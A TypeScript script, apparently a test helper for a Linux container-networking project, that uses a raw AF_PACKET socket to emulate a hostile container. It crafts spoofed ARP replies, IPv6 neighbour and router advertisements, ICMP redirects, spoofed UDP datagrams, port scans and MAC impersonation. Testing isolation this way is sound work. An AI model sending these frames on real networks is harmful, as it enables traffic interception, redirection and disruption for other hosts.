import koffi from 'koffi';
import { parseAddress, RouteSocket } from '../../src/linux/index.ts';

/**
 * Frames made by hand, sent by an AF_PACKET socket of the namespace that the program runs in: what a hostile container
 * with NET_RAW can put on its link.
 */
const libc = koffi.load(null);
const socket = libc.func('int socket(int domain, int type, int protocol)');
const sendto = libc.func('long sendto(int fd, void *data, size_t n, int flags, void *address, unsigned int length)');

const AF_PACKET = 17;
const SOCK_RAW = 3;
const ETH_P_IP = 0x0800;
const ETH_P_ARP = 0x0806;
const ETH_P_IPV6 = 0x86dd;
const UDP = 17;
const ICMP = 1;
const ICMPV6 = 58;

/** What to send, and how often; a scan is `count` datagrams to as many ports, from 1 on. */
export type Attack =
  | { kind: 'scan'; from: string; to: string; destinationMac: string; count: number }
  | {
      kind: 'udp';
      from: string;
      to: string;
      port: number;
      /** Its own unless given. */
      sourceMac?: string;
      destinationMac: string;
      count: number;
    }
  | { kind: 'advertise'; from: string; prefix: string; destinationMac: string; count: number }
  | {
      kind: 'redirect';
      from: string;
      to: string;
      victimRoute: string;
      gateway: string;
      destinationMac: string;
      count: number;
    }
  | { kind: 'arp'; claims: string; to: string; destinationMac: string; count: number }
  | { kind: 'neighbour'; from: string; claims: string; to: string; destinationMac: string; count: number }
  | { kind: 'mac'; as: string; count: number };

interface Interface {
  index: number;
  mac: Buffer;
}

const macBytes = (text: string): Buffer => Buffer.from(text.replaceAll(':', ''), 'hex');

function interfaceNamed(name: string): Interface {
  using route = new RouteSocket();
  const link = route.link(name);
  if (link === undefined) throw new Error(`no link ${name} here`);
  return { index: link.index, mac: macBytes(link.macAddress) };
}

function frameOf(attack: Attack, own: Buffer): Buffer {
  switch (attack.kind) {
    case 'udp': {
      const { from, to, destinationMac, sourceMac } = attack;
      const sender = sourceMac === undefined ? own : macBytes(sourceMac);
      return isV6(to)
        ? ethernet(sender, destinationMac, ETH_P_IPV6, ipv6(from, to, UDP, 64, udp(attack)))
        : ethernet(sender, destinationMac, ETH_P_IP, ipv4(from, to, UDP, udp(attack)));
    }
    case 'scan':
      throw new TypeError('a scan is many frames');
    case 'advertise':
      return ethernet(
        own,
        attack.destinationMac,
        ETH_P_IPV6,
        ipv6(attack.from, 'ff02::1', ICMPV6, 255, routerAdvertisement(attack.prefix)),
      );
    case 'redirect':
      return isV6(attack.to)
        ? ethernet(
            own,
            attack.destinationMac,
            ETH_P_IPV6,
            ipv6(attack.from, attack.to, ICMPV6, 255, redirect6(attack.gateway, attack.victimRoute)),
          )
        : ethernet(own, attack.destinationMac, ETH_P_IP, ipv4(attack.from, attack.to, ICMP, redirect4(attack)));
    case 'arp':
      return ethernet(own, attack.destinationMac, ETH_P_ARP, arpReply(own, attack));
    case 'neighbour':
      return ethernet(
        own,
        attack.destinationMac,
        ETH_P_IPV6,
        ipv6(attack.from, attack.to, ICMPV6, 255, neighbourAdvertisement(own, attack.claims)),
      );
    case 'mac':
      return ethernet(macBytes(attack.as), 'ff:ff:ff:ff:ff:ff', ETH_P_ARP, Buffer.alloc(28));
  }
}

const isV6 = (address: string): boolean => address.includes(':');

const ethernet = (from: Buffer, to: string, type: number, payload: Buffer): Buffer =>
  Buffer.concat([macBytes(to), from, Buffer.of(type >> 8, type & 255), payload]);

function checksum(bytes: Buffer): number {
  let sum = 0;
  for (let at = 0; at < bytes.length; at += 2) sum += (bytes[at]! << 8) | (bytes[at + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

function ipv4(from: string, to: string, protocol: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(20);
  header[0] = 0x45;
  header.writeUInt16BE(20 + payload.length, 2);
  header[8] = 64;
  header[9] = protocol;
  parseAddress(from).copy(header, 12);
  parseAddress(to).copy(header, 16);
  header.writeUInt16BE(checksum(header), 10);
  return Buffer.concat([header, payload]);
}

/** With the checksum of the payload filled in (at 6 for UDP, at 2 for ICMPv6). */
function ipv6(from: string, to: string, protocol: number, hops: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(40);
  header[0] = 0x60;
  header.writeUInt16BE(payload.length, 4);
  header[6] = protocol;
  header[7] = hops;
  parseAddress(from).copy(header, 8);
  parseAddress(to).copy(header, 24);
  const pseudo = Buffer.alloc(8);
  pseudo.writeUInt32BE(payload.length, 0);
  pseudo[7] = protocol;
  const sum = checksum(Buffer.concat([header.subarray(8), pseudo, payload]));
  payload.writeUInt16BE(sum, protocol === UDP ? 6 : 2);
  return Buffer.concat([header, payload]);
}

function udp({ port }: { port: number }): Buffer {
  const packet = Buffer.concat([Buffer.alloc(8), Buffer.from('spoofed')]);
  packet.writeUInt16BE(4444, 0);
  packet.writeUInt16BE(port, 2);
  packet.writeUInt16BE(packet.length, 4);
  return packet;
}

/** RFC 4861, 4.2, with a prefix to make addresses of (4.6.2). */
function routerAdvertisement(prefix: string): Buffer {
  const head = Buffer.alloc(16);
  head[0] = 134;
  head[4] = 64;
  head.writeUInt16BE(1800, 6);
  const option = Buffer.alloc(32);
  option[0] = 3;
  option[1] = 4;
  option[2] = 64;
  option[3] = 0xc0; // on-link, autonomous
  option.writeUInt32BE(7200, 4);
  option.writeUInt32BE(7200, 8);
  parseAddress(prefix).copy(option, 16);
  return Buffer.concat([head, option]);
}

/** RFC 4861, 4.4: asked for, and to be believed over what is known. */
function neighbourAdvertisement(own: Buffer, target: string): Buffer {
  return Buffer.concat([Buffer.of(136, 0, 0, 0, 0x60, 0, 0, 0), parseAddress(target), Buffer.of(2, 1), own]);
}

/** RFC 4861, 4.5 */
function redirect6(gateway: string, destination: string): Buffer {
  const head = Buffer.alloc(8);
  head[0] = 137;
  return Buffer.concat([head, parseAddress(gateway), parseAddress(destination)]);
}

/** RFC 792: for host, with the header of the packet that it speaks of. */
function redirect4({ to, victimRoute, gateway }: { to: string; victimRoute: string; gateway: string }): Buffer {
  const head = Buffer.alloc(8);
  head[0] = 5;
  head[1] = 1;
  parseAddress(gateway).copy(head, 4);
  const packet = Buffer.concat([head, ipv4(to, victimRoute, ICMP, Buffer.alloc(8))]);
  packet.writeUInt16BE(checksum(packet), 2);
  return packet;
}

/** RFC 826: "`claims` is at my address". */
function arpReply(
  own: Buffer,
  { claims, to, destinationMac }: { claims: string; to: string; destinationMac: string },
): Buffer {
  const head = Buffer.of(0, 1, 8, 0, 6, 4, 0, 2);
  return Buffer.concat([head, own, parseAddress(claims), macBytes(destinationMac), parseAddress(to)]);
}

/** One frame `count` times, or each of a scan once. */
function* framesOf(attack: Attack, mac: Buffer): Iterable<Buffer> {
  if (attack.kind === 'scan') {
    for (let port = 1; port <= attack.count; port += 1) yield frameOf({ ...attack, kind: 'udp', port }, mac);
    return;
  }
  const frame = frameOf(attack, mac);
  for (let round = 0; round < attack.count; round += 1) yield frame;
}

function send(name: string, attacks: readonly Attack[]): void {
  const { index, mac } = interfaceNamed(name);
  const fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd === -1) throw new Error('no packet socket');
  // struct sockaddr_ll
  const address = Buffer.alloc(20);
  address.writeUInt16LE(AF_PACKET, 0);
  address.writeInt32LE(index, 4);
  address[11] = 6;
  for (const frame of attacks.flatMap((attack) => [...framesOf(attack, mac)])) {
    frame.copy(address, 12, 0, 6);
    if (Number(sendto(fd, frame, frame.length, 0, address, address.length)) === -1) throw new Error('not sent');
  }
}

const [name, text] = process.argv.slice(2);
if (name !== undefined && text !== undefined) send(name, [JSON.parse(text)].flat());
